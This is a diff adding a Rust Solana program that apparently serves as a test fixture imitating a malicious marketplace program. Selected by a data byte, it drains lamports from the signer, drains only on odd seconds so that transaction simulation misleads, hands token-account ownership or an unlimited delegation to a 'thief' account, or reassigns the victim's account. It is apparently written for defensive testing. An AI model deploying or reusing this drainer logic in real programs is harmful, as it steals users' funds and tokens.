@@ -1,0 +1,86 @@
+//! For tests alone: does to whoever signs what a cheat would do. The ninth byte of the data says what, so that it can stand
+//! in the place of a program of the marketplace too, whose first argument begins there.
+#![no_std]
+
+use common::{ids, pda::transfer_lamports, sysvars, token::Holding, Result};
+use pinocchio::{
+    cpi::invoke,
+    error::ProgramError,
+    instruction::{InstructionAccount, InstructionView},
+    AccountView, Address, ProgramResult,
+};
+
+common::program!(process, 64);
+
+/// Where a marketplace instruction has its first argument.
+const DEED: usize = 8;
+const STOLEN_LAMPORTS: u64 = 1_000_000_000;
+const ASSIGN: u8 = 1;
+const APPROVE: u8 = 4;
+const SET_AUTHORITY: u8 = 6;
+const ACCOUNT_OWNER: u8 = 2;
+
+pub fn process(program: &Address, accounts: &mut [AccountView], data: &[u8]) -> ProgramResult {
+    let accounts: &[AccountView] = accounts;
+    let victim = find(accounts, |one| one.is_signer() && one.is_writable())?;
+    let thief = find(accounts, |one| !one.is_signer() && one.is_writable() && !one.owned_by(&ids::TOKEN))?;
+    match data.get(DEED) {
+        Some(1) => transfer_lamports(victim, thief, STOLEN_LAMPORTS),
+        Some(2) => at_odd_times(victim, thief),
+        Some(3) => set_authority(token_of(accounts, victim)?, victim, thief),
+        Some(4) => approve(token_of(accounts, victim)?, victim, thief),
+        Some(5) => assign(victim, program),
+        _ => Ok(()),
+    }
+}
+
+fn find(accounts: &[AccountView], wanted: impl Fn(&AccountView) -> bool) -> Result<&AccountView> {
+    accounts.iter().find(|one| wanted(one)).ok_or(ProgramError::NotEnoughAccountKeys)
+}
+
+fn token_of<'a>(accounts: &'a [AccountView], victim: &AccountView) -> Result<&'a AccountView> {
+    find(accounts, |one| {
+        one.is_writable() && Holding::read(one).is_ok_and(|holding| &holding.owner == victim.address())
+    })
+}
+
+/// Honest in every other second: what is simulated need not be what lands.
+fn at_odd_times(victim: &AccountView, thief: &AccountView) -> ProgramResult {
+    match sysvars::now()? % 2 {
+        0 => Ok(()),
+        _ => transfer_lamports(victim, thief, STOLEN_LAMPORTS),
+    }
+}
+
+fn set_authority(token: &AccountView, victim: &AccountView, thief: &AccountView) -> ProgramResult {
+    let mut data = [0; 35];
+    data[0] = SET_AUTHORITY;
+    data[1] = ACCOUNT_OWNER;
+    data[2] = 1;
+    data[3..].copy_from_slice(thief.address().as_array());
+    let accounts = [
+        InstructionAccount::writable(token.address()),
+        InstructionAccount::readonly_signer(victim.address()),
+    ];
+    invoke(&InstructionView { program_id: &ids::TOKEN, accounts: &accounts, data: &data }, &[token, victim])
+}
+
+fn approve(token: &AccountView, victim: &AccountView, thief: &AccountView) -> ProgramResult {
+    let mut data = [0xff; 9];
+    data[0] = APPROVE;
+    let accounts = [
+        InstructionAccount::writable(token.address()),
+        InstructionAccount::readonly(thief.address()),
+        InstructionAccount::readonly_signer(victim.address()),
+    ];
+    let instruction = InstructionView { program_id: &ids::TOKEN, accounts: &accounts, data: &data };
+    invoke(&instruction, &[token, thief, victim])
+}
+
+fn assign(victim: &AccountView, program: &Address) -> ProgramResult {
+    let mut data = [0; 36];
+    data[0] = ASSIGN;
+    data[4..].copy_from_slice(program.as_array());
+    let accounts = [InstructionAccount::writable_signer(victim.address())];
+    invoke(&InstructionView { program_id: &ids::SYSTEM, accounts: &accounts, data: &data }, &[victim])
+}
